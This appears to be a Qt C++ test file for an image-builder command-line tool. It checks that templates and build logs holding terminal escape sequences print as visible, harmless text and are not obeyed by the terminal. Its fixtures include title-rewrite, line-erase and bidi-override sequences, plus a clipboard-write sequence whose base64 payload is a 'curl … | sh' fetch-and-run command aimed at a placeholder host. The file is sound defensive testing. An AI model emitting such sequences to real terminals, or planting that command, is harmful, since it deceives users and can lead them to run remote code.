// Stored and remote text reaches a terminal inert (issue 15, "Inert text"): the real
// imagebuilder-cli runs on a pseudo-terminal (python3's pty module), as in an
// administrator's shell, and prints a colleague's template and a build's log that hold
// terminal control sequences. None arrives as a control sequence; each shows visibly.
#include "TestSupport.h"

#include "storage/Store.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>

using namespace ib;

namespace {

// What a hostile colleague or build script writes: retitle the window (OSC 0), write the
// clipboard (OSC 52), erase the line and move up to fake a result (CSI), the 8-bit CSI
// (U+009B) some terminals obey, and a right-to-left override.
const QString kTitle = QStringLiteral("\x1b]0;owned title\x07");
const QString kClipboard = QStringLiteral("\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07");
const QString kErase = QStringLiteral("\x1b[2K\x1b[1A\r");
const QString kC1 = QString(QChar(0x9b)) + QStringLiteral("2J");
const QString kBidi = QString(QChar(0x202e)) + QStringLiteral("txt.exe");
const QString kHostile = kTitle + kClipboard + kErase + kC1 + kBidi;

// The runner: the CLI on the slave side of a new pseudo-terminal; everything it writes to
// the terminal comes back on stdout as bytes, and its exit status is ours.
const char *kPtyRunner = R"(import os, pty, sys
pid, fd = pty.fork()
if pid == 0:
    os.execv(sys.argv[1], sys.argv[1:])
data = b''
while True:
    try:
        chunk = os.read(fd, 65536)
    except OSError:
        break
    if not chunk:
        break
    data += chunk
_, status = os.waitpid(pid, 0)
sys.stdout.buffer.write(data)
sys.exit(os.waitstatus_to_exitcode(status))
)";

}  // namespace

class TestCliInert final : public QObject
{
    Q_OBJECT

private:
    QTemporaryDir m_dir;
    QString m_db;
    QString m_buildId;

    struct Run
    {
        int status = -1;
        QByteArray terminal;  // what the terminal received (stdout and stderr)
    };

    Run onTerminal(const QStringList &args) const
    {
        QProcess p;
        auto env = QProcessEnvironment::systemEnvironment();
        env.insert(QStringLiteral("XDG_DATA_HOME"), m_dir.filePath(QStringLiteral("xdg-data")));
        env.insert(QStringLiteral("XDG_CONFIG_HOME"), m_dir.filePath(QStringLiteral("xdg-config")));
        env.insert(QStringLiteral("IMAGEBUILDER_DATA_DIR"), m_dir.filePath(QStringLiteral("data")));
        env.insert(QStringLiteral("IMAGEBUILDER_SECRET_STORE"), QStringLiteral("memory"));
        env.insert(QStringLiteral("IMAGEBUILDER_DB"), m_db);
        env.insert(QStringLiteral("TERM"), QStringLiteral("xterm-256color"));
        p.setProcessEnvironment(env);
        p.start(QStringLiteral("python3"),
                QStringList{QStringLiteral("-c"), QString::fromUtf8(kPtyRunner), qEnvironmentVariable("IB_CLI")} + args);
        if (!p.waitForStarted(10000) || !p.waitForFinished(60000))
            return {};
        return Run{p.exitStatus() == QProcess::NormalExit ? p.exitCode() : -1, p.readAllStandardOutput()};
    }

    // No byte the terminal would act on: C0 controls but tab, newline and the carriage
    // return the terminal's own newline translation adds before each newline, DEL, and the
    // C1 controls in their UTF-8 form (C2 80..C2 9F).
    static QString firstControl(const QByteArray &bytes)
    {
        for (qsizetype i = 0; i < bytes.size(); ++i) {
            const auto c = static_cast<unsigned char>(bytes[i]);
            const bool crOfNewline = c == '\r' && i + 1 < bytes.size() && bytes[i + 1] == '\n';
            if ((c < 0x20 && c != '\t' && c != '\n' && !crOfNewline) || c == 0x7f)
                return QStringLiteral("byte 0x%1 at %2").arg(c, 2, 16, QLatin1Char('0')).arg(i);
            if (c == 0xc2 && i + 1 < bytes.size() && static_cast<unsigned char>(bytes[i + 1]) >= 0x80 &&
                static_cast<unsigned char>(bytes[i + 1]) <= 0x9f)
                return QStringLiteral("C1 control at %1").arg(i);
        }
        return {};
    }

    void verifyInert(const Run &r, const char *what)
    {
        QVERIFY2(r.status == 0,
                 qPrintable(QStringLiteral("%1 exited %2: %3").arg(QLatin1String(what)).arg(r.status).arg(QString::fromUtf8(r.terminal))));
        const auto control = firstControl(r.terminal);
        QVERIFY2(control.isEmpty(),
                 qPrintable(QStringLiteral("%1 sent the terminal a %2:\n%3")
                                .arg(QLatin1String(what), control, QString::fromUtf8(r.terminal.toPercentEncoding(" \n/:;=[]()")))));
        const auto text = QString::fromUtf8(r.terminal);
        // The sequences are visible: a reader sees what was planted.
        QVERIFY2(text.contains(QStringLiteral("^[]0;owned title^G")) || text.contains(QStringLiteral("^[]0;owned title")),
                 qPrintable(QStringLiteral("%1: %2").arg(QLatin1String(what), text)));
        QVERIFY2(text.contains(QStringLiteral("^[]52;c;")), qPrintable(text));
    }

private slots:
    void initTestCase()
    {
        QVERIFY(m_dir.isValid());
        QVERIFY2(QFile::exists(qEnvironmentVariable("IB_CLI")), "IB_CLI must name the built imagebuilder-cli");
        if (QStandardPaths::findExecutable(QStringLiteral("python3")).isEmpty())
            QSKIP("needs python3 for its pty module");
        m_db = m_dir.filePath(QStringLiteral("inert.sqlite"));

        // A colleague's rows on the shared store.
        auto opened = Store::open(m_db);
        QVERIFY2(opened, qPrintable(opened ? QString() : opened.error().message));
        auto store = std::move(opened).value();
        ImageTemplate t;
        t.name = QStringLiteral("hostile");
        t.os = OsSpec{QStringLiteral("linux"), QStringLiteral("debian"), QStringLiteral("12")};
        t.minStorageGb = 10;
        t.description = QStringLiteral("desc ") + kHostile;
        t.userScript = QStringLiteral("#!/bin/sh\necho '") + kTitle + QStringLiteral("'\n");
        auto created = store->createTemplate(t);
        QVERIFY2(created, qPrintable(created ? QString() : created.error().message));

        BuildRecord b;
        b.templateId = created->id;
        b.templateRevision = created->revision;
        b.snapshot = created.value();
        b.imageName = QStringLiteral("img");
        b.baseImage.id = QStringLiteral("0b5e0000-0000-4000-8000-000000000001");
        b.baseImage.name = QStringLiteral("base ") + kTitle;
        b.baseImage.os = t.os;
        auto build = store->createBuild(b);
        QVERIFY(build);
        m_buildId = build->id;
        QVERIFY(store->markBuildStarted(m_buildId, QStringLiteral("host ") + kErase, 4242, QString()));
        QVERIFY(store->finishBuild(m_buildId, BuildState::Failed, QStringLiteral("cause ") + kHostile));
        QVERIFY(store->appendLogChunk(m_buildId, QStringLiteral("step one\n") + kHostile + QStringLiteral("\nBuild succeeded\n")));
    }

    void templateShow()
    {
        verifyInert(onTerminal({QStringLiteral("template"), QStringLiteral("show"), QStringLiteral("hostile")}), "template show");
    }

    void templateListCells()
    {
        // The list has no description column; the name of a second template carries the sequences.
        auto store = Store::open(m_db);
        QVERIFY(store);
        ImageTemplate t;
        t.name = QStringLiteral("n");
        t.os = OsSpec{QStringLiteral("linux"), QStringLiteral("debian"), QStringLiteral("12")};
        t.minStorageGb = 10;
        auto created = store.value()->createTemplate(t);
        QVERIFY(created);
        store.value().reset();
        const auto r = onTerminal({QStringLiteral("template"), QStringLiteral("list")});
        QCOMPARE(r.status, 0);
        QVERIFY2(firstControl(r.terminal).isEmpty(), qPrintable(firstControl(r.terminal)));
    }

    void buildLog() { verifyInert(onTerminal({QStringLiteral("build"), QStringLiteral("log"), m_buildId}), "build log"); }

    // A log longer than the CLI's page of chunks comes out whole and in order.
    void buildLogPagesThroughALongLog()
    {
        auto store = Store::open(m_db);
        QVERIFY(store);
        auto row = store.value()->buildById(m_buildId);
        QVERIFY(row);
        BuildRecord b = row.value();
        b.id.clear();
        auto build = store.value()->createBuild(b);
        QVERIFY(build);
        const int chunks = 600;  // the CLI reads 256 at a time
        for (int i = 1; i <= chunks; ++i)
            QVERIFY(store.value()->appendLogChunk(build->id, QStringLiteral("chunk %1 \x1b[2K\n").arg(i)));
        QVERIFY(store.value()->finishBuild(build->id, BuildState::Failed, QStringLiteral("cause")));
        store.value().reset();
        const auto r = onTerminal({QStringLiteral("build"), QStringLiteral("log"), build->id});
        QCOMPARE(r.status, 0);
        QVERIFY2(firstControl(r.terminal).isEmpty(), qPrintable(firstControl(r.terminal)));
        const auto lines = QString::fromUtf8(r.terminal).split(QStringLiteral("\r\n"), Qt::SkipEmptyParts);
        QCOMPARE(lines.size(), chunks);
        for (int i = 1; i <= chunks; ++i)
            QCOMPARE(lines.at(i - 1), QStringLiteral("chunk %1 ^[[2K").arg(i));
    }

    void buildShow() { verifyInert(onTerminal({QStringLiteral("build"), QStringLiteral("show"), m_buildId}), "build show"); }

    void buildList()
    {
        const auto r = onTerminal({QStringLiteral("build"), QStringLiteral("list")});
        QCOMPARE(r.status, 0);
        QVERIFY2(firstControl(r.terminal).isEmpty(), qPrintable(firstControl(r.terminal)));
        QVERIFY(QString::fromUtf8(r.terminal).contains(QStringLiteral("base ^[]0;owned title^G")));
    }

    // --json stays valid JSON that holds the text exactly as stored: JSON escapes C0
    // controls itself (ESC as \u001b), so the terminal gets none of them either.
    void jsonKeepsTextAndEscapesControls()
    {
        const auto r =
            onTerminal({QStringLiteral("template"), QStringLiteral("show"), QStringLiteral("hostile"), QStringLiteral("--json")});
        QCOMPARE(r.status, 0);
        QVERIFY2(!r.terminal.contains('\x1b') && !r.terminal.contains('\x07'), r.terminal.constData());
        QVERIFY(r.terminal.contains("\\u001b]0;owned title\\u0007"));
        QJsonParseError error;
        const auto doc = QJsonDocument::fromJson(r.terminal, &error);
        QVERIFY2(!doc.isNull(), qPrintable(error.errorString()));
        QCOMPARE(doc.object().value(QStringLiteral("description")).toString(), QStringLiteral("desc ") + kHostile);
    }
};

QTEST_GUILESS_MAIN(TestCliInert)
#include "tst_cli_inert.moc"
